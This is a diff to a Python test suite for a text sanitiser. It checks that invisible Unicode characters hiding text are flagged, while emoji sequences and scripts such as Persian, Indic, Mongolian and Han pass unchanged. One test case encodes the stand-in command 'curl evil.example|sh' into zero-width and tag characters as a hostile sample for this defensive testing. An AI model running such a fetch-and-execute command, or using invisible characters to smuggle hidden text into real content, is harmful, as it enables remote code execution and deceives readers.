@@ -25,6 +25,7 @@ from localspec.core.safe_text import (
     safe_text,
     without_harmful,
 )
+from localspec.tools.values import quoted
 
 ROOT = Path(localspec.__file__).resolve().parent.parent
 ANYTHING = st.text(st.characters(exclude_categories=[]))
@@ -70,6 +71,8 @@ def test_json_for_a_terminal_stands_for_the_same_value(text: str) -> None:
         "\u034f\u061c",
         "\u17b4\u17b5",
         "\U0001d173\U0001bca0",
+        "\u200b\U000e0163",
+        "\ufe00\u2060",
     ],
 )
 def test_bits_without_width_hide_no_text(bits: str) -> None:
@@ -78,6 +81,41 @@ def test_bits_without_width_hide_no_text(bits: str) -> None:
     assert not is_safe(text)
     assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text
     assert safe_text(f"fine{bits}.") == f"fine{bits}."  # spelling, as in Persian and Thai
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        "".join(f"\u200b{chr(0xE0100 + b)}" for b in b"curl evil.example|sh"),
+        "".join("\ufe00" + "\u200b\u2060"[b >> i & 1] for b in b"curl" for i in range(8)),
+        "".join("\u200d\u200c\ufe0f"[b % 3] + chr(0xE0100 + b) for b in b"curl"),
+    ],
+)
+def test_characters_that_nobody_sees_hide_no_text_whatever_their_kinds(hidden: str) -> None:
+    text = f"A{hidden}B"
+    assert not is_safe(text)
+    assert safe_text(text).count(SIGN) >= len(hidden) - 2
+    assert quoted(text, 1000).count(SIGN) >= len(hidden) - 2
+    assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\U0001f3f3\ufe0f\u200d\U0001f308",  # flag, VS16, joiner, rainbow
+        "\u2764\ufe0f\u200d\U0001f525 \U0001f441\ufe0f\u200d\U0001f5e8\ufe0f",
+        "\U0001f9d1\U0001f3fd\u200d\u2764\ufe0f\u200d\U0001f48b\u200d\U0001f9d1\U0001f3fb",
+        "1\ufe0f\u20e3 \U0001f1e9\U0001f1ea",  # a keycap and the flag of a country
+        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian
+        "\u0915\u094d\u200d\u0937 \u0d28\u0d4d\u200d \u0dc1\u0dca\u200d\u0dbb\u0dd3",  # Indic
+        "\u1820\u180b\u1828\u180e\u1820",  # Mongolian
+        "\u845b\U000e0100\u8fbb\U000e0101",  # Han
+    ],
+)
+def test_emoji_and_scripts_that_need_what_nobody_sees_stay(text: str) -> None:
+    assert safe_text(text) == text
+    assert is_safe(text)
+    assert quoted(text, 1000) == text
 
 
 @pytest.mark.parametrize("unseen", "\u3164\uffa0\u180b\u034f\u115f\u17b4\u200e\u00ad\U0001d173")
@@ -148,6 +186,7 @@ def test_a_flag_whose_pieces_arrive_one_by_one_reaches_the_terminal_whole(
     [
         ("x\ufe00\ufe01\ufe02y", f"x\ufe00{SIGN}{SIGN}y"),
         ("x\u200b\u200c\u200by", f"x\u200b\u200c{SIGN}y"),
+        ("x\u200b\U000e0163\u200by", f"x\u200b\U000e0163{SIGN}y"),
     ],
 )
 def test_what_hides_a_text_is_seen_though_it_arrives_one_by_one(
